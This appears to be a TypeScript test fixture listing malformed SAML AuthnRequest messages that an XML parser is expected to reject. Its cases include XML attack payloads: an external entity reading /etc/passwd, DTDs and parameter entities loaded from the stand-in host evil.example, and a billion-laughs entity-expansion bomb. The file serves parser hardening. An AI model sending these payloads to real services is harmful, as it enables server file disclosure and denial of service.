// Messages that the XML parser rejects.
import { ENTITY_ID, makeMessage, makeSignedMessage, swap, type TamperedCase } from './tampering.ts';

const signed = await makeSignedMessage('AuthnRequest');
const issuer = `${ENTITY_ID}</saml:Issuer>`;
const withIssuer = (content: string): string => swap(signed, issuer, `${content}</saml:Issuer>`);
const bomb = Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`,
).join('');

/** Rejected as `invalid_token`, signed or not. */
export const UNREADABLE: readonly TamperedCase[] = [
  ['doctype', 'A document type declaration', `<!DOCTYPE AuthnRequest>${signed}`, /document type/],
  [
    'external-entity',
    'An entity that reads a file of the server',
    `<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]>${withIssuer('&file;')}`,
    /document type/,
  ],
  [
    'external-dtd',
    'A document type at a URL of the attacker',
    `<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">${signed}`,
    /document type/,
  ],
  [
    'parameter-entity',
    'A parameter entity that loads more declarations',
    `<!DOCTYPE x [<!ENTITY % more SYSTEM "http://evil.example/x.dtd"> %more;]>${signed}`,
    /document type/,
  ],
  [
    'entity-expansion',
    'Ten entities that expand to a billion characters',
    `<!DOCTYPE x [<!ENTITY e0 "x">${bomb}]>${withIssuer('&e9;')}`,
    /document type/,
  ],
  ['undeclared-entity', 'An undeclared entity', withIssuer('&company;'), /undefined entity/],
  [
    'processing-instruction',
    'A processing instruction',
    swap(signed, '<saml:Issuer', '<?xml-stylesheet href="http://evil.example/"?><saml:Issuer'),
    /processing instruction/,
  ],
  [
    'two-roots',
    'A second root element',
    signed + makeMessage('AuthnRequest', { id: '_second' }),
    /only one root/,
  ],
  ['truncated', 'A truncated message', signed.slice(0, -40), /unclosed tag|unexpected end/],
  [
    'undeclared-prefix',
    'A prefix without a declaration',
    swap(signed, '<dsig:KeyInfo>', '<ds:KeyInfo/><dsig:KeyInfo>'),
    /unbound namespace prefix/,
  ],
  [
    'attribute-twice',
    'A repeated attribute',
    swap(signed, ' Version="2.0"', ' Version="2.0" Version="2.0"'),
    /duplicate attribute/,
  ],
  [
    'duplicate-id',
    'Another element with the ID of the message',
    swap(signed, '<dsig:KeyName>', '<dsig:KeyName ID="_5f0c1a9e7d3b4c26a8e1">'),
    /two elements have the same ID/,
  ],
  [
    'duplicate-id-other-case',
    'The same identifier in an attribute named Id',
    swap(signed, '<dsig:KeyName>', '<dsig:KeyName Id="_5f0c1a9e7d3b4c26a8e1">'),
    /two elements have the same Id/,
  ],
  [
    'too-deep',
    'Elements nested 100 deep',
    withIssuer(`${'<x>'.repeat(100)}${'</x>'.repeat(100)}`),
    /nested deeper than 64/,
  ],
  [
    'too-many-attributes',
    'An element with 300 attributes',
    swap(signed, ' ID=', `${Array.from({ length: 300 }, (_, index) => ` x${index}=""`).join('')} ID=`),
    /more than 256 attributes/,
  ],
  ['control-character', 'A character that XML does not allow', withIssuer('&#1;'), /malformed character/],
  [
    'utf-16',
    'A declaration of another encoding',
    `<?xml version="1.0" encoding="UTF-16"?>${signed}`,
    /encoding UTF-8/,
  ],
  ['xml-1.1', 'A declaration of XML 1.1', `<?xml version="1.1"?>${signed}`, /version 1\.0/],
  ['not-xml', 'Text that is not XML', 'SAMLRequest', /text data outside of root/],
];
